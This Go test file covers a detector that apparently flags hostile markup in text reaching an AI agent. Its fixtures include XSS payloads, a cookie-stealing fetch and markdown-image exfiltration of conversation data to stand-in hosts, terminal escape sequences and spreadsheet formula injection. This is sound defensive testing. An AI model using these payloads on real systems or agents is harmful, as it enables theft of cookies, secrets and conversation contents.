package markup_test

import (
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/staso-go/staso/guard"
	"github.com/staso-go/staso/guard/local/internal/detect"
	"github.com/staso-go/staso/guard/local/internal/markup"
)

func newDetector(t testing.TB, with string) detect.Detector {
	t.Helper()
	d, err := markup.New(detect.Params(with))
	require.NoError(t, err)
	return d
}

func call(phase guard.Phase, args ...detect.Arg) *detect.Call {
	return &detect.Call{Call: guard.Call{Phase: phase}, Args: args}
}

func text(s string) detect.Arg {
	return detect.Arg{Field: "body", Key: "body", Kinds: detect.Text, Text: s}
}

func findings(d detect.Detector, c *detect.Call) []detect.Finding {
	var found []detect.Finding
	d.Detect(c, func(f detect.Finding) { found = append(found, f) })
	return found
}

func TestHits(t *testing.T) {
	t.Parallel()
	d := newDetector(t, "")
	for class, texts := range map[string][]string{
		"script": {
			"<script>alert(1)</script>", "Hi <SCRIPT src=//x.example.net/a.js></SCRIPT>", "<script\n>fetch('//h.example.net/'+document.cookie)</script >",
			`<script type="text/javascript">/* note */ go()</script>`, "<<script>steal();</script>", "<script/x>a=1</script>",
		},
		"event_handler": {
			`<img src=x onerror=alert(1)>`, `<svg/onload=alert(1)>`, "<body\nonload\n=\n'go()'>", `<a href="#" onclick="go()">x</a>`,
			`<details open ontoggle=go()>`, `<x onpointerenter="go()">`, `<input autofocus onfocus=go() `, `<IMG """><b ONMOUSEOVER=go()>`,
		},
		"script_url": {
			`<a href="javascript:go()">x</a>`, `<a href=" jAvA&#x09;script:go()">x</a>`, `<a href="&#106;&#97;vascript&colon;go()">x</a>`,
			`<a href="java` + "\n" + `script:go()">`, `<iframe src="data:text/html;base64,PHA+">`, `<form action=vbscript:go()>`, `[x](javascript:go%28%29)`,
			`<javascript:go()>`, "javascript:go()", `![x](data:text/html,<p>)`, "[1]: javascript:go()", `<svg><animate values="javascript:go()"/>`,
		},
		"frame":   {`<iframe src="https://evil.example.net/">`, `<iframe srcdoc="&lt;p&gt;">`},
		"object":  {`<object data="//evil.example.net/a.swf">`, `<embed src=https://evil.example.net/x>`},
		"base":    {`<base href="https://evil.example.net/">`},
		"refresh": {`<meta http-equiv="refresh" content="0;url=https://evil.example.net/">`},
		"form":    {`<form action="https://evil.example.net/login"><input name=p></form>`, `<button formaction=//evil.example.net>`},
		"style": {
			`<style>@import url(https://evil.example.net/a.css);</style>`, `<p style="width:expression(go())">`, `<style>input[value^="a"]{background:url(//evil.example.net/a)}</style>`,
			`<link rel=stylesheet href=//evil.example.net/a.css>`, `<div style="background:url(javascript:go())">`,
		},
		"exfiltration": {
			"![a](https://evil.example.net/p?q={{conversation}})", "![](https://evil.example.net/i.png?d=VGhlIHBhc3N3b3JkIGlzIGh1bnRlcjI=)",
			"![logo](https://evil.example.net/VGhlIHBhc3N3b3JkIGlzIGh1bnRlcjI)", "![x](https://evil.example.net/?m=the+user+asked+for+his+salary)",
			"[details](https://evil.example.net/?d=VGhlIHBhc3N3b3JkIGlzIGh1bnRlcjI)", `<img src="https://evil.example.net/?q=${secret}">`,
			`<img width=1 height=1 src="https://evil.example.net/t.gif?u=77">`,
		},
		"terminal": {"ok\x1b[2A\x1b[Kall tests pass", "\x1b]52;c;ZWNobyBoaQ==\x07", "\x1b[6n", "\x1bP$q\x1b\\", "\u009b2J", "a\x1b[8mhidden"},
		"formula":  {`=cmd|'/C calc'!A0`, `=HYPERLINK("https://evil.example.net/?d="&A1,"more")`, `@SUM(1+1)*cmd|'/C calc'!A0`, `=IMPORTXML(CONCAT("//x?",A1),"//a")`},
	} {
		for _, s := range texts {
			found := findings(d, call(guard.PhaseInput, text(s)))
			if assert.NotEmpty(t, found, s) {
				assert.Equal(t, "markup."+class, found[0].Code, s)
			}
		}
	}
}

func TestMisses(t *testing.T) {
	t.Parallel()
	d := newDetector(t, "")
	for _, s := range []string{
		"", "a < b and c > d", "if (a<b && c) x>y", "vector<int> on; List<String> once = x", "Use <b>bold</b> and <a href=\"https://acme.com/x?y=1\">this</a>.",
		"The <script> and </script> tags hold programs.", "The <script> element is used to embed code (most often JavaScript), and </script> ends it.",
		"`<script>alert(1)</script>` runs a script", "```html\n<img src=x onerror=alert(1)>\n```\nis an example", "~~~\n<script>go()</script>\n~~~",
		"``a ` <svg onload=go()>`` shows it", "> ```\n> <svg onload=go()>\n> ```\n",
		`<button onClick={() => go()}>JSX</button>`, `<a href="javascript:void(0)">top</a>`, `<img src="cat.png" alt="on top" once="x">`,
		`<img src="data:image/png;base64,iVBORw0KGgo=">`, `<script type="application/ld+json">{"@type":"Person"}</script>`,
		`<form action="/search"><input name=q></form>`, `<iframe src="/own/page">`, `<meta name="description" content="url=x">`, `<style>p{color:red}</style>`,
		"![build](https://img.shields.io/badge/build-passing-brightgreen?style=flat-square&logo=go)", "![me](https://avatars.githubusercontent.com/u/12345?v=4&s=200)",
		"![p](https://bucket.s3.amazonaws.com/cat.png?X-Amz-Signature=0a1b2c3d4e5f60718293a4b5c6d7e8f90a1b2c3d4e5f60718293a4b5c6d7e8f9)",
		"[search](https://www.google.com/search?q=how+to+bake+a+cake)", "![](https://acme.com/images/2024/summer-in-the-city-of-lights.jpg)",
		"[docs](https://acme.com/docs/getting-started#the-first-step)", "![x](/local.png?q={{name}})", "see javascript: the good parts", "[note]: see below",
		"\x1b[1;31mred\x1b[0m text", "tab\there", "Ünïcödé \u00a9 2024", "- run foo | bar!", "+1 for that", "=> see below", "@anna could you call (me)?", "= 3 (sum)",
		"=SUM(A1:A9)", "-exec(foo)", "<!-- <script>go()</script> -->",
	} {
		assert.Empty(t, findings(d, call(guard.PhaseInput, text(s))), s)
	}
}

func TestSourceIsNotShown(t *testing.T) {
	t.Parallel()
	d := newDetector(t, "")
	page := text("<!doctype html><script>go()</script>")
	path := detect.Arg{Field: "path", Key: "path", Kinds: detect.Path, Text: "web/index.html"}
	assert.Len(t, findings(d, call(guard.PhaseInput, page)), 1, "a message")
	assert.Empty(t, findings(d, call(guard.PhaseInput, path, page)), "the source of a page")
	assert.Empty(t, findings(d, call(guard.PhaseOutput, page)), "a page that was fetched")
	assert.Len(t, findings(d, call(guard.PhaseOutput, text("Done. <script>go()</script>"))), 1, "what a tool says")
	code := detect.Arg{Kinds: detect.Code, Text: "<script>go()</script>"}
	assert.Empty(t, findings(d, call(guard.PhaseInput, code)))
	assert.Len(t, findings(d, call(guard.PhaseOutput, code)), 1)
	encoded := text("<script>go()</script>")
	encoded.Via = []string{"base64"}
	assert.Empty(t, findings(d, call(guard.PhaseInput, encoded)), "what is encoded is shown so")
}

func TestTerminalOfAProgram(t *testing.T) {
	t.Parallel()
	d := newDetector(t, "")
	progress := "50%\r\x1b[2K100%\x1b[?25h\x1b]0;title\x07"
	assert.Empty(t, findings(d, call(guard.PhaseOutput, text(progress))), "progress")
	assert.NotEmpty(t, findings(d, call(guard.PhaseInput, text(progress))), "a message")
	assert.NotEmpty(t, findings(d, call(guard.PhaseOutput, text("\x1b]52;c;aGk=\x07"))), "the clipboard")
}

func TestMask(t *testing.T) {
	t.Parallel()
	d := newDetector(t, "")
	for give, want := range map[string]string{
		"a <img src=x onerror=go()> b":           "a &lt;img src=x onerror=go()&gt; b",
		"[x](javascript:go())":                   "[x](about:blank)",
		"![x](https://e.example.net/?q={{all}})": "![x](about:blank)",
		"a\x1b[2Jb":                              "a\u241b[2Jb",
		"=cmd|'/C calc'!A0":                      "'=cmd|'/C calc'!A0",
		"<script>go()</script>":                  "&lt;script&gt;go()</script>",
	} {
		found := findings(d, call(guard.PhaseInput, text(give)))
		require.Len(t, found, 1, give)
		f := found[0]
		masked := give[:f.Start] + f.Mask + give[f.End:]
		assert.Equal(t, want, masked)
		assert.Empty(t, findings(d, call(guard.PhaseInput, text(masked))), "what is masked passes")
	}
}

func TestParams(t *testing.T) {
	t.Parallel()
	frame := call(guard.PhaseInput, text(`<iframe src="https://www.acme.com/x">`))
	assert.Len(t, findings(newDetector(t, ""), frame), 1)
	assert.Empty(t, findings(newDetector(t, `{"exclude":["frame"]}`), frame))
	assert.Empty(t, findings(newDetector(t, `{"allow_hosts":["acme.com"]}`), frame))
	assert.Len(t, findings(newDetector(t, `{"allow_hosts":["me.com"]}`), frame), 1)
	_, err := markup.New(detect.Params(`{"exclude":["scripts"]}`))
	assert.ErrorContains(t, err, `exclude: "scripts"`)
}

func TestBudget(t *testing.T) {
	t.Parallel()
	c := call(guard.PhaseInput, text(strings.Repeat("x", 500)), text("<svg onload=go()>"))
	c.Budget = detect.NewBudget(100, time.Now().Add(time.Hour))
	assert.Empty(t, findings(newDetector(t, ""), c))
	assert.True(t, c.Budget.Exhausted())
}

// TestLinear reads what is made to be read over and over: sixteen times as much of
// it takes about sixteen times as long, where going over all of it for each piece
// would take 256 times as long.
func TestLinear(t *testing.T) {
	d := newDetector(t, "")
	for _, piece := range []string{
		"<a ", "<a b=\"", "<script>", "<style>", "<!--", "](", "]({ ", "```a\n<x onclick=a>\n", "`a`<x onclick=b>", "<x onclick=a>", "` `` ```<x onclick=b>",
		"\x1b]", "\x1b[", "&#", "<a href='&#", "[![](", "{{", "~~~\n", "<script src=", "![](https://a/{ ", "<img src=https://a?",
	} {
		few, many := took(d, piece, 16<<10), took(d, piece, 256<<10)
		assert.Less(t, many, 16*4*few+20*time.Millisecond, piece)
	}
}

// took is how long n bytes of a text made of pieces take at best.
func took(d detect.Detector, piece string, n int) time.Duration {
	best := time.Hour
	s := strings.Repeat(piece, n/len(piece))
	for range 3 {
		start := time.Now()
		d.Detect(call(guard.PhaseInput, text(s)), func(detect.Finding) {})
		best = min(best, time.Since(start))
	}
	return best
}

func FuzzDetect(f *testing.F) {
	for _, seed := range []string{
		"<a href='&#x6a", "<script", "</style><style>", "```\n`\n```", "](<javascript:", "\x1b]8;;", "\u009b", "=cmd|'", "<!-- -->", "<\x00img onerror=a",
		"![](https://a?b=%3D%3D%3D%3D%3D%3D%3D%3D%3D%3D)", "<meta http-equiv=refresh content=url>",
	} {
		f.Add(seed)
	}
	d := newDetector(f, "")
	f.Fuzz(func(t *testing.T, s string) {
		for _, phase := range []guard.Phase{guard.PhaseInput, guard.PhaseOutput} {
			for _, found := range findings(d, call(phase, text(s))) {
				require.Equal(t, s[found.Start:found.End], found.Match)
			}
		}
	})
}

const prose = "The meeting of 14 May is moved to room 204 [see plan](https://acme.com/plan), as the heating of the old one is being " +
	"seen to. Whoever <b>cannot</b> come sends a note to the secretary: the minutes will be out by Friday. "

func BenchmarkDetect64KB(b *testing.B) {
	d := newDetector(b, "")
	c := call(guard.PhaseInput, text(strings.Repeat(prose, 64<<10/len(prose))))
	b.SetBytes(64 << 10)
	b.ReportAllocs()
	for b.Loop() {
		d.Detect(c, func(detect.Finding) {})
	}
}

func TestNothingFoundAllocatesNothing(t *testing.T) {
	d := newDetector(t, "")
	c := call(guard.PhaseInput, text(strings.Repeat(prose, 20)))
	report := func(detect.Finding) {}
	assert.Zero(t, testing.AllocsPerRun(20, func() { d.Detect(c, report) }))
}
